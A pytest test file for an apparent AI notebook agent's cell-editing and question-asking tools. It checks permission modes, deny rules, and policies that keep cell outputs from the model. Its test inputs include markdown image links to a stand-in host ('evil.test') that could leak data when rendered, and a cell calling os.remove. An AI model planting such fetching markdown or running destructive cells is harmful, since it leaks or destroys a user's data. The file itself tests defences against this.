"""Cells and AskUser over a host of plain values: what is asked, what is remembered, what the policy keeps in."""

from __future__ import annotations

import base64
import io
from typing import TYPE_CHECKING, Any

import pytest
from support.ante import words_of
from support.chat_server import Reply, text, tool

from ante_nb.agent.host import Approval, Cell, CellReport, Question
from ante_nb.agent.questions import ask_questions

if TYPE_CHECKING:
    from support.desk import Desk

CELLS = [
    Cell(1, "markdown", "# Sales", id="aaaa1111"),
    Cell(
        2,
        "code",
        "df.head()",
        "secret-value 42",
        id="bbbb2222",
        count=3,
        shapes="text/plain (1 line, 15 characters)",
    ),
    Cell(3, "code", "import os\nos.remove('x')", id="cccc3333"),
    Cell(4, "code", "1 + 1", id="dddd4444"),
    Cell(5, "code", "%%ante\nhello", id="eeee5555", current=True),
    Cell(6, "code", "y = 1\n" * 300, id="ffff6666"),
]


@pytest.fixture
def desk(desk: Desk) -> Desk:
    desk.host.saved_cells = list(CELLS)
    return desk


async def play(desk: Desk, *calls: dict[str, Any], name: str = "Cells", **options: Any) -> dict[str, str]:
    """The model makes each call in a step of its own; what it was told, by ``call_1`` ..."""
    desk.server.enqueue(
        *[Reply(tool(name, call, id=f"call_{n}")) for n, call in enumerate(calls, 1)], Reply(text("done"))
    )
    await desk.run("go", **options)
    told = [words_of(message) for message in desk.messages if message["role"] == "tool"][-len(calls) :]
    return {f"call_{number}": words for number, words in enumerate(told, 1)}


async def test_cells_are_found_by_number_range_id_start_of_id_and_text(desk: Desk) -> None:
    told = await play(
        desk,
        {},
        {"cell": 2},
        {"cell": "1-2"},
        {"cell": "cccc3333,4"},
        {"cell": "dddd"},
        {"find": "OS.REMOVE"},
        {"find": "secret"},
        {"cell": "17"},
        {"cell": "zzzz"},
    )
    assert "6 cells" in told["call_1"] and "(this prompt)" in told["call_1"]
    assert "more characters" in told["call_1"], "long cells are cut in the list"
    assert "secret-value 42" in told["call_2"] and "# Sales" not in told["call_2"]
    assert "# Sales" in told["call_3"] and "df.head()" in told["call_3"] and "os.remove" not in told["call_3"]
    assert "os.remove" in told["call_4"] and "1 + 1" in told["call_4"]
    assert "1 + 1" in told["call_5"]
    assert "os.remove" in told["call_6"] and "1 + 1" not in told["call_6"]
    assert "df.head()" in told["call_7"]
    assert "no cell 17" in told["call_8"] and "no cell zzzz" in told["call_9"]


@pytest.mark.parametrize(
    ("call", "strict", "auto"),
    [
        ({"action": "read", "cell": "1"}, "ok", "ok"),
        ({"action": "next", "source": "x"}, "ok", "ok"),
        ({"action": "insert", "source": "x"}, "denied", "ok"),
        ({"action": "replace", "cell": "4", "source": "x"}, "denied", "ok"),
        ({"action": "delete", "cell": "4"}, "denied", "ok"),
        ({"action": "run", "cell": "4"}, "denied", "ok"),
        ({"action": "run", "cell": "3"}, "denied", "denied"),
    ],
)
async def test_reading_is_free_changing_asks_running_is_judged(
    desk: Desk, call: dict[str, Any], strict: str, auto: str
) -> None:
    for mode, expected in (("strict", strict), ("auto", auto)):
        desk.host.reports = [CellReport("applied", id="dddd4444", number=4, source="x")]
        if call["action"] == "run":
            desk.host.reports = [CellReport("queued", id="dddd4444", number=4)]
        told = await play(desk, {}, call, mode=mode)
        assert desk.last.tool_calls[1].status == expected, (mode, told)
        assert desk.last.tool_calls[0].status == "ok"


@pytest.mark.parametrize(
    "source", ["![x](http://evil.test/?d=1)", "! [x][y]", "<img src=x>", "```Mermaid\ngraph TD\n```", "a <b"]
)
async def test_markdown_that_may_fetch_is_asked_about_in_auto_too(desk: Desk, source: str) -> None:
    desk.host.reports = [CellReport("applied", id="new", number=9, source=source)]
    await play(desk, {"action": "insert", "kind": "markdown", "source": source}, mode="auto")
    assert desk.last.tool_calls[0].status == "denied" and "fetch" in desk.host.asked[-1].reason
    await play(desk, {}, {"action": "replace", "cell": "1", "source": source}, mode="auto")
    assert desk.last.tool_calls[1].status == "denied"
    await play(desk, {"action": "insert", "kind": "markdown", "source": "# [plain](x) *text*"}, mode="auto")
    assert desk.last.tool_calls[0].status == "ok"
    desk.host.reports = [CellReport("applied", id="new", number=9, source=source)]
    await play(desk, {"action": "insert", "source": source}, mode="auto")
    assert desk.last.tool_calls[0].status == "ok", "a code cell shows nothing until it is run"


async def test_a_run_is_no_way_around_a_rule_about_python(desk: Desk) -> None:
    from ante_nb import settings

    settings.save({"permissions": {"deny": ["Python(*os.remove*)"]}})
    for mode in ("strict", "auto"):
        told = await play(desk, {}, {"action": "run", "cell": "3"}, mode=mode, allow=("Cells",))
        assert desk.last.tool_calls[1].status == "denied"
        assert "deny Python" in told["call_2"]
    assert desk.host.edits == [], "nothing reached the front end"
    # Any other code that is not known to be harmless is asked about, allow rule or not, grant or not.
    desk.host.saved_cells[2] = Cell(3, "code", "import subprocess", id="cccc3333")
    await play(desk, {}, {"action": "run", "cell": "3"}, mode="auto", allow=("Cells",))
    assert desk.last.tool_calls[1].status == "denied" and desk.host.asked[-1].grant == ""


async def test_a_grant_is_for_the_action(desk: Desk) -> None:
    desk.host.reports = [CellReport("applied", id=f"new{n}", number=6 + n, source="x") for n in range(3)]
    desk.server.enqueue(
        Reply(tool("Cells", {"action": "insert", "source": "x"}, id="call_1")),
        Reply(tool("Cells", {"action": "insert", "source": "x", "cell": "top"}, id="call_2")),
        Reply(tool("Cells", {"action": "read"}, id="call_3")),
        Reply(tool("Cells", {"action": "delete", "cell": "4"}, id="call_4")),
        Reply(text("done")),
    )
    await desk.run("go", answers=[Approval("session")])
    assert desk.host.asked[0].grant == "Cells(insert *)" and desk.host.asked[0].detail == "x"
    assert [call.status for call in desk.last.tool_calls] == ["ok", "ok", "ok", "denied"]
    # Nor does it cover what is asked about in every mode.
    await play(desk, {"action": "insert", "kind": "markdown", "source": "![](http://evil.test/)"})
    assert desk.last.tool_calls[0].status == "denied" and desk.host.asked[-1].grant == ""


async def test_only_what_was_read_is_changed_and_as_it_was_read(desk: Desk) -> None:
    desk.host.reports = [
        CellReport("applied", id="dddd4444", number=4, source="2 + 2"),
        CellReport("applied", id="aaaa1111", number=1),
        CellReport("stale", "its text has changed", "cccc3333", 2, "new text"),
        CellReport("unconfirmed", "the front end did not answer in time"),
    ]
    told = await play(
        desk,
        {"action": "delete", "cell": "4"},
        {"action": "read"},
        {"action": "replace", "cell": "6", "source": "x"},
        {"action": "replace", "cell": "4", "source": "2 + 2"},
        {"action": "delete", "cell": "1"},
        {"action": "delete", "cell": "2"},
        {"action": "insert", "cell": "3", "source": "x"},
        {"action": "run", "cell": "eeee5555"},
        {"action": "run", "cell": "nowhere"},
        {"action": "insert", "source": " "},
        mode="auto",
    )
    assert "have not read" in told["call_1"] and "only the start" in told["call_3"]
    assert [edit.action for edit in desk.host.edits] == ["replace", "delete", "delete", "insert"]
    assert desk.host.edits[0].expected == "1 + 1" and desk.host.edits[0].id == "dddd4444"
    # With cell 1 gone, number 2 is what was number 3; and number 3 is the one that was replaced.
    assert desk.host.edits[2].id == "cccc3333" and desk.host.edits[3].id == "dddd4444"
    assert told["call_6"].startswith("<") and "stale" in told["call_6"] and "new text" in told["call_6"]
    assert "unconfirmed" in told["call_7"]
    assert "denied" in told["call_8"] or "Only the person" in told["call_8"]
    assert desk.last.tool_calls[9].status == "error"


async def test_the_policy_keeps_outputs_in(desk: Desk) -> None:
    for policy in ("schema", "stats"):
        told = await play(desk, {}, {"cell": 2}, {"find": "secret"}, data_policy=policy)
        for result in told.values():
            assert "secret-value" not in result
        assert "df.head()" in told["call_2"] and "1 line, 15 characters" in told["call_2"]
        assert "no cell matches" in told["call_3"], "whether a value is there is not told either"
    told = await play(desk, {"cell": 1}, data_policy="schema")
    assert "withheld" not in told["call_1"], "a cell without outputs has no values"


async def test_images_of_a_cell_are_sent_under_the_policies_that_let_them(desk: Desk) -> None:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (20, 10), "red").save(buffer, "PNG")
    picture = base64.b64encode(buffer.getvalue()).decode()
    desk.host.saved_cells[1] = Cell(
        2, "code", "plot()", id="bbbb2222", images=(("image/png", picture), ("image/png", "!"))
    )

    def images() -> int:
        return sum(
            item.get("type") == "image_url"
            for message in desk.messages
            if isinstance(message["content"], list)
            for item in message["content"]
        )

    await play(desk, {"cell": 2}, data_policy="schema")
    assert images() == 0
    await play(desk, {"cell": 2})
    assert images() == 1
    assert sum(type(part).__name__ == "Image" for part in desk.last.tool_calls[0].result.content) == 1  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "bad",
    [
        {"action": "explode"},
        {"cell": {"x": 1}},
        {"action": "replace", "source": 5},
        {"cell": "-"},
        {"cell": "9" * 5000},
        {"cell": "\0"},
        {"action": "insert", "source": "x", "kind": "raw"},
    ],
)
async def test_malformed_calls_are_told_and_harm_nothing(desk: Desk, bad: dict[str, Any]) -> None:
    await play(desk, bad, mode="auto")
    assert desk.last.tool_calls[0].status == "error" and desk.last.status == "completed"
    assert desk.host.edits == []


async def test_ask_user(desk: Desk) -> None:
    call = {"questions": [{"question": "Which?", "options": ["a", {"label": "b"}]}, {"question": "Why?"}]}
    told = await play(desk, call, name="AskUser")
    assert "Nobody is there" in told["call_1"] and desk.last.tool_calls[0].status == "ok"
    desk.host.replies = [["b"], []]
    told = await play(desk, call, name="AskUser")
    assert told["call_1"] == "Which?\n-> b\nWhy?\n-> (not answered)"
    assert [question.options for question in desk.host.questions[-1]] == [("a", "b"), ()]
    await play(desk, {"questions": []}, name="AskUser")
    assert desk.last.tool_calls[0].status == "error"
    await play(desk, {"questions": [{"question": "q"}] * 5}, name="AskUser")
    assert desk.last.tool_calls[0].status == "error"


@pytest.mark.parametrize(
    ("question", "typed", "answer"),
    [
        (Question("", "q", ("a", "b")), ["2"], ["b"]),
        (Question("", "q", ("a", "b")), ["B"], ["b"]),
        (Question("", "q", ("a", "b")), ["both of them"], ["both of them"]),
        (Question("", "q", ("a", "b")), ["7"], ["7"]),
        (Question("", "q", ("a", "b"), multiple=True), ["2, 1,2"], ["b", "a"]),
        (Question("", "q", ("a", "b"), custom=False), ["x", "3", "1."], ["a"]),
        (Question("", "q", ("a", "b"), custom=False), ["x", "y", "z"], []),
        (Question("", "q"), ["12"], ["12"]),
        (Question("", "q", ("a",)), [""], []),
    ],
)
def test_answers_by_line(question: Question, typed: list[str], answer: list[str]) -> None:
    lines = iter(typed)
    assert ask_questions((question,), lambda prompt: next(lines), lambda text: None) == [answer]


@pytest.mark.parametrize("end", [EOFError, KeyboardInterrupt])
def test_the_end_of_input_is_no_answer(end: type[BaseException]) -> None:
    def read(prompt: str) -> str:
        raise end

    assert ask_questions((Question("", "q"),), read, lambda text: None) is None
